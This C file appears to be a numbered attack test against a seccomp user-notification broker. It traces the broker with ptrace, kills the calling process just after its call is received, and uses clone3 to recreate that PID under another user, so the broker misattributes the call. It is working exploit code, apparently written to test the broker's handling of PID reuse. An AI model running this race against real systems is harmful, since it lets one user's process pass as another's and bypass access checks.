/* SPDX-License-Identifier: ISC */
/*
 * Attack 8: the caller dies when its call has been received, and its number
 * is taken by another user's process before the broker has looked at who that
 * is. Traces the broker, has the caller call (SIGUSR1), and stops the broker
 * when it comes back with the notification; kills the caller, makes the
 * stranger under its number, and lets the broker go on. The stranger's number
 * is printed; it is the caller's.
 *
 * usage: reuse broker caller uid program [argument ...]
 */
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include <linux/ptrace.h>
#include <linux/sched.h>
#include <linux/seccomp.h>

#include <dirent.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define THREADS_MAX 64
#define TRIES 5000 /* of a millisecond */

/* A thread of the broker, and whether it is in a RECV. */
static struct {
	pid_t tid;
	bool receives;
} threads[THREADS_MAX];
static size_t nthreads;

static void
seize_all(pid_t broker)
{
	char path[64];
	struct dirent *entry;
	DIR *folder;
	pid_t tid;

	(void)snprintf(path, sizeof(path), "/proc/%d/task", broker);
	folder = opendir(path);
	if (folder == NULL)
		err(1, "%s", path);
	while ((entry = readdir(folder)) != NULL && nthreads < THREADS_MAX) {
		tid = (pid_t)atoi(entry->d_name);
		if (tid <= 0)
			continue;
		if (ptrace(PTRACE_SEIZE, tid, 0, PTRACE_O_TRACESYSGOOD) == -1 ||
		    ptrace(PTRACE_INTERRUPT, tid, 0, 0) == -1)
			err(1, "seize");
		threads[nthreads++].tid = tid;
	}
	(void)closedir(folder);
}

/* Did the thread, which has stopped, come back with a notification? */
static bool
has_received(pid_t tid)
{
	struct __ptrace_syscall_info info;
	size_t i;

	for (i = 0; i < nthreads && threads[i].tid != tid; i++)
		continue;
	if (i == nthreads ||
	    ptrace(PTRACE_GET_SYSCALL_INFO, tid, sizeof(info), &info) == -1)
		return false;
	if (info.op == PTRACE_SYSCALL_INFO_ENTRY)
		threads[i].receives = info.entry.nr == SYS_ioctl &&
		    (uint32_t)info.entry.args[1] == SECCOMP_IOCTL_NOTIF_RECV;
	return info.op == PTRACE_SYSCALL_INFO_EXIT && threads[i].receives &&
	    info.exit.rval == 0;
}

static void
run_until_received(pid_t caller)
{
	size_t stopped = 0;
	int status;
	pid_t tid;

	for (;;) {
		tid = waitpid(-1, &status, __WALL);
		if (tid == -1)
			err(1, "wait");
		if (!WIFSTOPPED(status))
			errx(1, "the broker has ended");
		if (WSTOPSIG(status) == (SIGTRAP | 0x80) && has_received(tid))
			return;
		/* When all are followed the caller may call. */
		if (status >> 16 == PTRACE_EVENT_STOP && ++stopped == nthreads)
			(void)kill(caller, SIGUSR1);
		if (ptrace(PTRACE_SYSCALL, tid, 0, 0) == -1)
			err(1, "step");
	}
}

/* By its parent, which waits for it. */
static void
kill_and_wait(pid_t pid)
{
	const struct timespec moment = { 0, 1000000 };

	(void)kill(pid, SIGKILL);
	while (kill(pid, 0) == 0)
		(void)nanosleep(&moment, NULL);
}

/* The number is free some moments after its process is gone; or somebody else
   on the machine has it for a while. */
static pid_t
clone_as(pid_t number)
{
	const struct timespec moment = { 0, 1000000 };
	struct clone_args args;
	pid_t pid = -1;
	int tries;

	for (tries = 0; tries < TRIES && pid == -1; tries++) {
		if (tries > 0)
			(void)nanosleep(&moment, NULL);
		memset(&args, 0, sizeof(args));
		args.exit_signal = SIGCHLD;
		args.set_tid = (uint64_t)(uintptr_t)&number;
		args.set_tid_size = 1;
		pid = (pid_t)syscall(SYS_clone3, &args, sizeof(args));
		if (pid == -1 && errno != EEXIST)
			break;
	}
	return pid;
}

static void __attribute__((noreturn)) become_stranger(uid_t uid, char *argv[])
{
	if (setgroups(0, NULL) == -1 || setresgid(uid, uid, uid) == -1 ||
	    setresuid(uid, uid, uid) == -1)
		err(1, "uid %u", uid);
	execv(argv[0], argv);
	err(1, "%s", argv[0]);
}

/* It says so when it has come to rest. */
static void
make_stranger(pid_t number, uid_t uid, char *argv[])
{
	int gate[2];
	char c;
	pid_t pid;

	if (pipe(gate) == -1)
		err(1, "pipe");
	pid = clone_as(number);
	if (pid == -1)
		err(1, "process %d", number);
	if (pid == 0) {
		if (dup2(gate[1], STDOUT_FILENO) == -1)
			err(1, "pipe");
		(void)close(gate[0]);
		(void)close(gate[1]);
		become_stranger(uid, argv);
	}
	(void)close(gate[1]);
	if (read(gate[0], &c, 1) != 1)
		errx(1, "the stranger has ended");
}

int
main(int argc, char *argv[])
{
	pid_t broker, caller;
	size_t i;

	if (argc < 5)
		errx(2, "usage: reuse broker caller uid program ...");
	broker = (pid_t)atoi(argv[1]);
	caller = (pid_t)atoi(argv[2]);
	seize_all(broker);
	run_until_received(caller);
	kill_and_wait(caller);
	make_stranger(caller, (uid_t)strtoul(argv[3], NULL, 10), argv + 4);
	printf("stranger %d\n", caller);
	fflush(stdout);
	/* The tracer's end lets go of all that are traced. */
	for (i = 0; i < nthreads; i++)
		(void)ptrace(PTRACE_DETACH, threads[i].tid, 0, 0);
	return 0;
}
